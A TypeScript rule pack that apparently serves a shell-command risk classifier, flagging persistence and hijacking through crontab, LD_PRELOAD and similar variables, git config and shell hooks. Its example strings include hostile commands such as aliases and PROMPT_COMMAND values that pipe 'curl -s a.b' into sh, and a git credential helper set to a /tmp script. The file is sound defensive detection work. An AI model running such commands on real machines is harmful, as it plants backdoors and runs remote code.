import { definePack } from '../rule.ts'

export const persistence = definePack('persistence', () => [
  {
    id: 'schedule',
    harm: 'execute-unresolved',
    family: 'crontab',
    when: [
      { program: ['crontab'], lacks: ['-l|-r|--help|-V'], operands: [1, 9] },
      { program: ['crontab'], words: ['-'] },
      { program: ['crontab'], has: ['-e'] },
      { program: ['launchctl'], path: ['load|bootstrap|submit|enable'] },
      { program: ['schtasks'], words: ['/create|/change|/delete'] },
    ],
    about: 'operands',
    examples: {
      matches: ['crontab jobs.txt', "echo '* * * * * x' | crontab -", 'launchctl load x.plist'],
      not: ['crontab -l', 'atq', 'systemctl list-timers'],
    },
  },
  {
    id: 'hijack-environment',
    harm: 'weaken',
    family: 'environment',
    when: [
      {
        program: ['export', 'declare', 'typeset', 'setenv', 'readonly'],
        words: [
          'ld_preload=?*|ld_audit=?*|ld_library_path=/tmp*|ld_library_path=/dev/shm*|dyld_insert_libraries=?*|bash_env=?*|env=?*|prompt_command=?*|bash_xtracefd=?*|pythonstartup=?*|perl5opt=?*|rubyopt=-r*|node_options=*--require*|node_options=*--import*|node_options=*-r *|java_tool_options=*agent*|_java_options=*agent*|git_ssh=?*|git_ssh_command=./*|git_ssh_command=/*|git_askpass=/tmp*|path=/tmp/*|path=/dev/shm/*|node_path=/tmp*|node_path=/dev/shm*|pythonpath=/tmp*|pythonpath=/dev/shm*|xdg_config_home=/tmp*|gonosumcheck=*|gonosumdb=*|gosumdb=off|goflags=*-insecure*',
        ],
      },
      {
        program: ['*'],
        env: 'LD_PRELOAD=?*|LD_AUDIT=?*|DYLD_INSERT_LIBRARIES=?*|BASH_ENV=/tmp/*|BASH_ENV=/dev/shm/*|PROMPT_COMMAND=?*|BASH_XTRACEFD=?*',
      },
      {
        program: ['make', 'gmake', 'cmake', 'ninja'],
        words: [
          'ld_preload=*|cc=/tmp/*|cxx=/tmp/*|cc=/dev/shm/*|shell=*curl*|shell=*wget*|*-fplugin=/tmp/*|-dcmake_c*_compiler=/tmp/*|-dcmake_c*_compiler=/dev/shm/*|cc=*curl*',
        ],
      },
    ],
    examples: {
      matches: [
        'export LD_PRELOAD=/tmp/x.so',
        'LD_AUDIT=/tmp/x.so ls',
        "export PROMPT_COMMAND='curl -s a.b'",
        'make CC=/tmp/cc all',
      ],
      not: [
        'export NODE_ENV=test',
        'export PATH=$PATH:/usr/local/bin',
        'env',
        'export NODE_OPTIONS=--max-old-space-size=4096',
      ],
    },
  },
  {
    id: 'git-hijack',
    harm: 'weaken',
    family: 'git config',
    when: [
      { program: ['git'], path: ['config', '**', 'core.hookspath', '/tmp/*|/dev/shm/*|/var/tmp/*'] },
      { program: ['git'], path: ['config', '**', 'core.fsmonitor', '*/*'] },
      {
        program: ['git'],
        path: [
          'config',
          '**',
          'core.sshcommand|core.gitproxy|core.pager_|core.editor_|diff.external|gpg.program|core.askpass',
        ],
        operands: [1, 1],
        words: ['/tmp/*|./*|*curl*|*sh -c*|/dev/shm/*'],
      },
      { program: ['git'], path: ['config', '**', 'credential.helper', 'store|!*|/tmp/*|*.sh'] },
      { program: ['git'], path: ['config', '**', 'alias.*', '!*'], words: ['*curl*|*wget*|*rm *|*nc *|*push*'] },
      {
        program: ['git'],
        path: ['config', '**', 'url.*.insteadof'],
        noWords: ['*github.com*|*gitlab.com*|*bitbucket.org*'],
      },
      { program: ['git'], path: ['config', '**', 'url.*.insteadof'], words: ['*attacker*|url.http://*'] },
      {
        program: ['git'],
        path: ['config', '**', 'http.proxy|https.proxy|http.*.proxy|http.sslverify|http.*.sslverify'],
        words: ['http://*|false|0|socks*'],
      },
    ],
    about: 'operands',
    examples: {
      matches: [
        'git config --global core.hooksPath /tmp/hooks',
        "git config credential.helper '!/tmp/x.sh'",
        'git config --global http.sslVerify false',
      ],
      not: [
        'git config user.name me',
        'git config --list',
        'git config core.hooksPath .husky',
        'git config --global --add safe.directory /x',
      ],
    },
  },
  {
    id: 'shell-hook',
    harm: 'weaken',
    family: 'shell hooks',
    when: [
      { program: ['bind'], has: ['-x'] },
      { program: ['complete'], has: ['-C'], words: ['*curl*|*wget*|*/tmp/*|*nc *|*sh *'] },
      { program: ['alias'], words: ['*=*curl *|*=*wget *|*=*eval *|*=*rm -rf*|*=*nc *|*_proxy=*|*path=/tmp*'] },
      { program: ['jupyter'], path: ['kernelspec', 'install'], words: ['/tmp/*|/dev/shm/*'] },
      { program: ['touch'], words: ['--checkpoint-action*|--reference=*|--use-compress-program*|--to-command*'] },
      { program: ['enable'], has: ['-f'] },
      { program: ['hash'], has: ['-p'] },
    ],
    examples: {
      matches: ['bind -x \'"\\C-l": "/tmp/b.sh"\'', "alias ls='curl -s a.b | sh; ls'", "complete -C 'curl -s a.b' ssh"],
      not: ["alias ll='ls -la'", 'complete -W "a b" x', 'bind -p'],
    },
  },
])
